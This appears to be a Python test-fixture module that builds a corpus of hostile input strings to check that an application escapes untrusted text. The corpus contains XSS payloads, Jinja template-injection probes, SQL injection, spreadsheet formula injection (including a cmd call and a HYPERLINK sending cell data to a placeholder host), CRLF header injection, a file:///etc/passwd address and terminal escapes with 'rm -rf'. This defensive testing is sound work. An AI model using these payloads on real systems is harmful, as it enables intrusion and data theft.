"""Texts that try to be more than text, by what they try.

Where one of them is run, it leaves a mark that a test can see: it sets `window.__hostile`, opens a
dialog, or asks this server for `/hostile-mark/<number>`. None of them names another server that
exists.
"""

# ruff: noqa: RUF001  letters that look like others are what some of these texts try
from __future__ import annotations

from dataclasses import dataclass
from typing import Final

MARK: Final = "__hostile"
"""The property of `window` that a script of the corpus sets to its number."""

PATH: Final = "hostile-mark"
"""A part of every address that the corpus makes a browser ask for."""

LONG: Final = 10_000

_NUMBER: Final = "§"  # stands in the templates for the string's number
_SET: Final = f"window.{MARK}={_NUMBER}"
_FETCH: Final = f"fetch('/{PATH}/{_NUMBER}')"
_AT: Final = f"/{PATH}/{_NUMBER}"

_TEMPLATES: Final[dict[str, tuple[str, ...]]] = {
    "html": (
        f"<script>{_SET}</script>",
        f"<ScRiPt >{_SET}</sCrIpT >",
        f"<img src=x onerror={_SET}>",
        f"<img src={_AT}>",
        f"<IMG SRC=`{_AT}` ONERROR={_SET}>",
        f"<body onload={_SET}>",
        f'<iframe srcdoc="<script>parent.{_SET}</script>"></iframe>',
        f"<iframe src={_AT}></iframe>",
        f"<object data={_AT}></object>",
        f"<embed src={_AT}>",
        f"<video><source onerror={_SET}></video>",
        f"<details open ontoggle={_SET}>",
        f"<input autofocus onfocus={_SET}>",
        f"<form action={_AT}><button>Call now</button></form>",
        "<base href=//hostile.invalid/>",
        f'<meta http-equiv="refresh" content="0;url={_AT}">',
        f"<link rel=stylesheet href={_AT}>",
        "<h1>Closed for good</h1>",
        "<b>bold</b> <a href=//hostile.invalid>a link</a>",
        "<!-- a comment that does not end",
        "<table><tr><td>",
        "</div></div></div></article></li></ol></section>",
        f"&lt;script&gt;{_SET}&lt;/script&gt;",
        f"&#60;img src=x onerror={_SET}&#62;",
        "&amp;amp; &nbsp; &copy;",
        f"<noscript><p title='</noscript><img src=x onerror={_SET}>'>",
        f"<template><script>{_SET}</script></template>",
        f"<x-hostile style=animation-name:none onanimationstart={_SET}>",
        f"<marquee onstart={_SET}>",
        f"<xmp><p title='</xmp><img src=x onerror={_SET}>'></xmp>",
        f"<<script>{_SET}//<</script>",
        f"<img/src=x/onerror={_SET}//",
        f"<a href=x onmouseover={_SET} autofocus tabindex=1>here",
    ),
    "attribute": (
        f'" onmouseover="{_SET}',
        f"' onfocus='{_SET}' autofocus='",
        f'"><img src=x onerror={_SET}>',
        f"'><script>{_SET}</script>",
        f"` onerror={_SET} `",
        f'x" style="background:url({_AT})',
        f'" autofocus tabindex=1 onfocus="{_SET}" x="',
        '"] , .card[data-clinic="',
    ),
    "end of script": (
        f"</script><script>{_SET}</script>",
        f"</ScRiPt ><img src=x onerror={_SET}>",
        f"</style><script>{_SET}</script>",
        f"</textarea><script>{_SET}</script>",
        f"</title><script>{_SET}</script>",
        f"--></script><script>{_SET}//",
        f"]]><script>{_SET}</script>",
        f"*/{_SET}/*",
        f"<!--<script>{_SET}</script>-->",
    ),
    "template literal": (
        f"${{{_SET}}}",
        f"`+({_SET})+`",
        f"`;{_SET};`",
        f"\\`;{_SET};//",
        f"${{`${{{_FETCH}}}`}}",
        f"`${{{_FETCH}}}`",
        f"$\\{{{_SET}}}",
        "$&$`$'$1$$",
        "`",
        "${",
    ),
    "script text": (
        f"';{_SET};//",
        f'";{_SET};//',
        f"\\';{_SET};//",
        f'\\";{_SET};//',
        f"\\\\';{_SET};//",
        f"'-({_SET})-'",
        f"\\u0027;{_SET};//",
        f"\\x27;{_SET};//",
        f"constructor.constructor('{_SET}')()",
        "__proto__",
    ),
    "jinja": (
        "{{ 7*7 }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        f"{{% macro x() %}}{_SET}{{% endmacro %}}",
        "{% for x in range(9) %}x{% endfor %}",
        "{{ this.get_name() }}",
        "{# a comment",
        f"{{{{ '<script>{_SET}</script>'|safe }}}}",
    ),
    "format": (
        "{name}",
        "{0.__class__}",
        "{miles} {count} {clinic}",
        "%s%s%s%n",
        "%(name)s",
        "{",
        "}",
        "{:>1000000000}",
        "100% {real}",
    ),
    "css": (
        f"</style><style>@import '{_AT}';</style>",
        f"}} body {{ background: url({_AT}) }}",
        f"expression({_SET})",
        f"<style>*{{background:url({_AT})}}</style>",
        "x; } * { display: none !important",
    ),
    "svg": (
        f"<svg onload={_SET}>",
        f"<svg><script>{_SET}</script></svg>",
        f"<svg><animate onbegin={_SET} attributeName=x dur=1s>",
        f"<svg><image href={_AT}></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={_SET}></svg>#x'/></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_SET}>",
        f"<svg><foreignObject><img src=x onerror={_SET}></foreignObject></svg>",
    ),
    "address": (
        f"javascript:{_SET}",
        f"JaVaScRiPt:{_SET}",
        f"javascript://example.org/%0a{_SET}",
        f"java\tscript:{_SET}",
        f"\x01javascript:{_SET}",
        f"data:text/html,<script>{_SET}</script>",
        "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
        f"vbscript:{_SET}",
        "//hostile.invalid/",
        "https:/\\hostile.invalid",
        f'https://example.org/" onclick="{_SET}',
        "https://user:password@hostile.invalid/",
        "http://[::1",
        "ftp://hostile.invalid/",
        "file:///etc/passwd",
        "blob:https://hostile.invalid/1",
        "https://example.org/\r\nSet-Cookie: hostile=1",
        "tel:*#06#",
    ),
    "markdown": (
        f"[click](javascript:{_SET})",
        f"![x]({_AT})",
        "**bold** _thin_ `code` ~~out~~",
        "# A heading",
        "$x^2$ :red[red] :material/warning:",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        f"<details><summary>[x]({_AT})</summary>",
        "<https://hostile.invalid/>",
    ),
    "bidi": (
        "\u202eeltit a\u202c",
        "\u2066name\u2069 \u2067eman",
        "Clinic \u202e)617( 555-0100",
        "\u200f\u200e\u061cmarks",
        "عيادة הכטמין Clinic",
    ),
    "hidden": (
        "zero\u200bwidth\u200djoiner\u2060",
        "\ufeffbyte order mark",
        "soft\u00adhyphen",
        "tag\U000e0041\U000e0042",
        "nul\x00in the middle",
        "\x00",
        "bell\x07back\x08space",
        "line\u2028separator\u2029paragraph",
        "two\r\nlines\nand\ttabs",
        "\x85next line\x0bvertical\x0cform",
        "private\ue000use",
        "not\uffffa\ufdd0character",
    ),
    "formula": (
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        '=HYPERLINK("http://hostile.invalid/?x="&A1,"here")',
        "\t=1+1",
        " =1+1",
        "\r=1+1",
        "\uff1d1+1",
        "'=1+1",
        "''=1+1",
        '"=1+1"',
        '=IMPORTXML(CONCAT(A1),"//a")',
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "\u3000\u2060\xad@SUM(1,1)",
        "\u3164=1+1",
        "\ufe661+1",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m",
        "\x1b]0;a title\x07",
        "\x1b]8;;http://hostile.invalid/\x1b\\here\x1b]8;;\x1b\\",
        "\x9b2Jcleared",
        "\x1b[2J\x1b[1;1Hcleared",
        "\x1bPq#0\x1b\\",
        "\x1b[6n\x1bc",
        "\x1b[200~rm -rf\x1b[201~",
        "over\rwritten",
        "[bold red]markup[/]",
        "[link=http://hostile.invalid]here[/link]",
        "[/not-open]",
    ),
    "quotes": (
        "O'Fallon \"the best\" «clinic» ‘one’ “two”",
        '"',
        "'",
        '""""',
        "\\",
        '\\\\"',
        "Robert'); DROP TABLE clinics;--",
        "' OR '1'='1",
        "a,b;c|d\te",
    ),
    "json": (
        '{"name": "x"}',
        '"}],"clinics":[{"name":"x',
        "\\u003cscript\\u003e",
        "null",
        "NaN",
        "[[[[[[[[",
        '","selected":"x',
    ),
    "long": (
        "A" * LONG,
        "<b>" * (LONG // 3),
        "ﷺ" * 500,  # of which NFKC makes eighteen times as much
        "a " * (LONG // 2),
        "(" * LONG,
        "e" + "\u0301" * LONG,
    ),
    "unicode": (
        "Ｋｅｔａｍｉｎｅ ﬁt",
        "Zoë Ünïçôdé ñandú",
        "👩‍⚕️🏥🇺🇸",
        "Ṱ̴̢o̷̢̕ŏ̵͎ ̶͙̕m̷̗̐u̴͎͝c̶͍̈h̶̼̓",
        "＜script＞window.__hostile=1＜/script＞",
        "ﹼscriptﹽ",
        "﹤img src=x onerror=window.__hostile=1﹥",
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One hostile text: its number in the corpus, what it tries, itself."""

    number: int
    kind: str
    text: str


CORPUS: Final = tuple(
    Hostile(number, kind, template.replace(_NUMBER, str(number)))
    for number, (kind, template) in enumerate(
        (kind, template) for kind, templates in _TEMPLATES.items() for template in templates
    )
)
TEXTS: Final = tuple(one.text for one in CORPUS)


def of_kind(*kinds: str) -> list[str]:
    """Return the texts of some kinds."""
    return [one.text for one in CORPUS if one.kind in kinds]
